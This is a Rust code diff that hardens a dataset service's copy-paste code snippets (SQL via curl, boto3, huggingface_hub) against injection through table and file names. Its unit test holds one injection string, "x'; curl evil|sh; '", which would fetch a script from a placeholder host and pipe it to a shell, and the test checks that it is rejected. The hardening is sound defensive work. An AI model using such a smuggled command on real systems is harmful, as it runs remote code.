@@ -121,7 +121,11 @@ fn snippets(state: &AppState, repo: &Gated, shown: Option<&(String, String)>) ->
         ),
     }];
     if let Some((table, file)) = shown {
-        let url = format!("{public}/api/v1/datasets/{path}/tables/{table}?format=parquet");
+        // Names are the writers': percent-encoded in addresses, quoted as each language quotes.
+        let url = format!(
+            "{public}/api/v1/datasets/{path}/tables/{}?format=parquet",
+            strata_core::names::url_path(table)
+        );
         out.push(Snippet {
             id: "use-pandas",
             label: "pandas",
@@ -148,23 +152,27 @@ fn snippets(state: &AppState, repo: &Gated, shown: Option<&(String, String)>) ->
                 }
             ),
         });
-        out.push(Snippet {
-            id: "use-sql",
-            label: "SQL",
-            code: format!(
-                "curl -H \"Authorization: Bearer $TOKEN\" {public}/api/v1/sql \\\n  -d '{{\"query\": \"SELECT * FROM \\\"{path}\\\".\\\"{table}\\\" LIMIT 10\"}}'"
-            ),
-        });
+        // In a shell, in JSON, in SQL: only a plain name goes through all three unquoted.
+        if plain(table) {
+            out.push(Snippet {
+                id: "use-sql",
+                label: "SQL",
+                code: format!(
+                    "curl -H \"Authorization: Bearer $TOKEN\" {public}/api/v1/sql \\\n  -d '{{\"query\": \"SELECT * FROM \\\"{path}\\\".\\\"{table}\\\" LIMIT 10\"}}'"
+                ),
+            });
+        }
         if let Some(s3) = &state.settings.s3_public_url {
             out.push(Snippet {
                 id: "use-boto3",
                 label: "S3 (boto3)",
                 code: format!(
-                    "import boto3\ns3 = boto3.client(\"s3\", endpoint_url=\"{}\",\n    aws_access_key_id=TOKEN[:20], aws_secret_access_key=TOKEN)\ns3.download_file(\"{}.{}\", \"main/{file}\", \"{}\")",
+                    "import boto3\nTOKEN = \"…\"  # a token from Settings\ns3 = boto3.client(\"s3\", endpoint_url=\"{}\",\n    aws_access_key_id=TOKEN[:20], aws_secret_access_key=TOKEN)\ns3.download_file(\"{}.{}\", {}, {})",
                     s3.trim_end_matches('/'),
                     repo.namespace,
                     repo.name,
-                    file.rsplit('/').next().unwrap_or(file)
+                    py(&format!("main/{file}")),
+                    py(file.rsplit('/').next().unwrap_or(file))
                 ),
             });
         }
@@ -173,7 +181,7 @@ fn snippets(state: &AppState, repo: &Gated, shown: Option<&(String, String)>) ->
         id: "use-hf",
         label: "huggingface_hub",
         code: format!(
-            "from huggingface_hub import snapshot_download\nsnapshot_download(\"{path}\", repo_type=\"dataset\", endpoint=\"{public}\"{})",
+            "from huggingface_hub import snapshot_download\n{token_line}snapshot_download(\"{path}\", repo_type=\"dataset\", endpoint=\"{public}\"{})",
             if private { ", token=TOKEN" } else { "" }
         ),
     });
@@ -186,4 +194,30 @@ fn snippets(state: &AppState, repo: &Gated, shown: Option<&(String, String)>) ->
         ),
     });
     out
+}
+
+/// A Python string literal of `s` (a JSON string is one).
+fn py(s: &str) -> String {
+    serde_json::to_string(s).unwrap_or_default()
+}
+
+/// Whether `name` needs no quoting in a shell, JSON or SQL: letters, digits, `.`, `_`, `-`.
+fn plain(name: &str) -> bool {
+    !name.is_empty()
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn names_are_quoted_as_each_language_quotes() {
+        assert_eq!(
+            super::py("main/a \"b\"\\c.csv"),
+            "\"main/a \\\"b\\\"\\\\c.csv\""
+        );
+        assert!(super::plain("orders_2026-v1.x"));
+        assert!(!super::plain("x'; curl evil|sh; '") && !super::plain(""));
+    }
 }
